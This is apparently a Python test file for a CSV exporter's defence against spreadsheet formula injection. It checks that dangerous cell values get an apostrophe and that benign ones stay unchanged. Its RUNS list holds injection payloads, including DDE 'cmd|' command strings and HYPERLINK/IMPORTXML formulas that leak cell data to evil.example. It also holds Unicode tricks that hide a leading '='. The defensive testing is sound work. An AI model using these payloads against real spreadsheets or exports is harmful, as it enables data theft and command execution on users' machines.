"""Text from the public does not run in a spreadsheet, and honest text stays as it was typed."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leads.export.cells import formula_safe, printable, runs_in_a_spreadsheet, text_of
from leads.export.csv_format import CsvWriter

RUNS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|'/c calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "=",
    "==1",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "+SUM(A1:A9)",
    "+",
    "+1-212-555-0100",  # a spreadsheet would subtract
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "-SUM(A1)",
    "-A1",
    "- no pain",  # Excel shows #NAME?
    "-5-5",
    "@SUM(1+1)",
    "@home",
    "|cmd",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tindented",
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u202e=1+1",  # right-to-left override
    "\u3000=1+1",  # ideographic space
    "\u3164=1+1",  # a letter without ink
    "\u2800=1+1",  # a Braille cell without dots
    "\x00=1+1",
    "\x0b=1+1",
    "'=1+1",  # already has an apostrophe: it gets another, so that one can be taken away
    "''=1+1",
    "'\t",
    "\uff1d1+1",  # full-width twins
    "\uff0bSUM(A1)",
    "\uff0dSUM(A1)",
    "\uff20SUM(A1)",
    "\u22121+1",  # a minus sign that is not a hyphen
]

HONEST = [
    "",
    "Ana Ortiz",
    "+44 20 7946 0958",
    "+44 (0)20 7946 0958",
    "+1 (212) 555-0100",
    "+1 212-555-0100",
    "+1 212 555 0100 ext. 12",
    "+442079460958",
    "+1.212.555.0100",
    "(212) 555-0100",
    "-5",
    "-3.5",
    "-12,000.50",
    "-4%",
    "+7",
    "-",
    "--",
    "00123",
    "1E5",
    "O'Neil",
    "'tis the knee",
    "ana@example.org",
    "a = b, and c",
    "Pain: 7/10 - worse at night",
    "first line\nsecond line",
    "\u4e2d\u6587",
    "\U0001f600 better",
    "\u2014 none",
]


@pytest.mark.parametrize("text", RUNS)
def test_text_that_would_run_gets_one_apostrophe(text):
    assert formula_safe(text) == "'" + printable(text)


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_is_left_alone(text):
    assert formula_safe(text) == text


@pytest.mark.parametrize(
    "text", ["bell \x07", "tab-like \x0b", "escape \x1b[0m", "half \ud83d", "none \uffff", "\x85"]
)
def test_characters_no_file_can_hold_are_shown_as_replaced(text):
    shown = printable(text)
    assert "\ufffd" in shown
    shown.encode()


@given(st.text())
def test_taking_the_apostrophe_away_gives_the_text_back(text):
    safe = formula_safe(text)
    restored = safe[1:] if safe[:1] == "'" and runs_in_a_spreadsheet(safe[1:]) else safe
    assert restored == printable(text)


@given(
    st.text(alphabet=" \t\n\r\u00a0\u200b\ufeff\u3164'\x00", max_size=4),
    st.sampled_from("=@|\uff1d\uff20"),
    st.text(max_size=20),
)
def test_nothing_hides_the_start_of_a_formula(blanks, sign, rest):
    assert formula_safe(blanks + sign + rest).startswith("'")


@given(st.integers(), st.integers(min_value=0, max_value=99))
def test_every_signed_number_is_left_alone(whole, hundredths):
    assert formula_safe(f"{whole}.{hundredths:02}") == f"{whole}.{hundredths:02}"
    assert formula_safe(f"{whole:+}") == f"{whole:+}"


@given(st.text(alphabet="0123456789 ()-.", min_size=1))
def test_a_sign_is_innocent_only_before_numbers_that_nothing_can_work_out(rest):
    text = "+" + rest
    if not runs_in_a_spreadsheet(text):
        assert any(c.isdigit() for c in rest)
        assert "-" not in rest or " " in rest or "(" in rest or ")" in rest


@given(st.lists(st.sampled_from(RUNS + HONEST) | st.text(), max_size=6))
def test_a_column_is_as_safe_as_each_of_its_cells(texts):
    expected = StringIO()
    csv.writer(expected, quoting=csv.QUOTE_ALL).writerows([formula_safe(text)] for text in texts)
    assert CsvWriter([]).write([texts]).decode() == expected.getvalue()


def test_whether_it_is_true_is_said_in_words():
    assert [text_of(cell) for cell in (True, False)] == ["Yes", "No"]
